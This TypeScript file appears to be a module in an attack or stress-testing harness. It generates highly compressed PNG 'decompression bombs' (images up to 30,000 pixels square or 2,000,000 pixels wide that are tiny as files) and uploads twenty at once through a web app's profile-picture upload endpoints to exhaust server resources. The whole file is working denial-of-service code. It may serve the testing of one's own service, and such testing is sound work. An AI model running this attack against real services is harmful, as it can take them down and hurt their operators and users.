import { crc32, createDeflate } from 'node:zlib';
import { ask, sendJson } from './ask.ts';
import { type Attack, type Caller, forEach, type Target } from './attack.ts';

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

async function packedZeros(bytes: number): Promise<Buffer> {
  const packing = createDeflate({ level: 9 });
  const part = Buffer.alloc(1024 * 1024);
  const parts: Buffer[] = [];
  packing.on('data', (piece: Buffer) => parts.push(piece));
  const ended = new Promise((resolve) => packing.once('end', resolve));
  for (let left = bytes; left > 0; left -= part.length) {
    if (!packing.write(part)) await new Promise((resolve) => packing.once('drain', resolve));
  }
  packing.end();
  await ended;
  return Buffer.concat(parts);
}

interface Picture {
  width: number;
  height: number;
  /** Of one channel. */
  bits: number;
  /** 0: grey; 6: red, green, blue and how opaque. */
  colour: 0 | 6;
  isInterlaced: boolean;
}

/** A black PNG, small as a file. */
async function black({ width, height, bits, colour, isInterlaced }: Picture): Promise<Buffer> {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([bits, colour, 0, 0, isInterlaced ? 1 : 0], 8);
  const row = Math.ceil((width * bits * (colour === 6 ? 4 : 1)) / 8) + 1;
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = await packedZeros(row * height);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

/** Sends a picture and takes it as one's own, as the profile page does. */
async function show(target: Target, picture: Buffer, by: Caller): Promise<void> {
  const { status, body } = await sendJson(target, 'address', { path: '/api/objects/upload', json: {}, by });
  if (status !== '200') return;
  const { uploadURL } = JSON.parse(body.toString()) as { uploadURL: string };
  const { pathname, search } = new URL(uploadURL);
  const headers = { 'content-type': 'image/png' };
  await ask(target, 'upload', { method: 'PUT', path: pathname + search, headers, body: picture, by });
  const path = '/api/auth/user/profile-picture';
  await sendJson(target, 'picture', { method: 'PUT', path, json: { profileImageURL: uploadURL }, by });
}

let floods: Buffer[] = [];

/** Small files that are large pictures. */
export const pictures: Attack = {
  name: 'pictures',
  what: '20 pictures at once that are small files: 30,000 pixels a side, or the 64 million that are taken, 8 bytes each',
  rateLimit: 'on',
  async prepare() {
    floods = [
      await black({ width: 30_000, height: 30_000, bits: 1, colour: 0, isInterlaced: false }),
      await black({ width: 8_000, height: 8_000, bits: 16, colour: 6, isInterlaced: true }),
      await black({ width: 8_000, height: 8_000, bits: 8, colour: 6, isInterlaced: false }),
      await black({ width: 2_000_000, height: 30, bits: 8, colour: 0, isInterlaced: false }),
    ];
  },
  async run(target) {
    const tries = Array.from({ length: 20 }, (_, n) => floods[n % floods.length]!);
    await forEach(tries, { width: 20, signal: target.signal }, (picture, n) => show(target, picture, target.member(n)));
  },
};
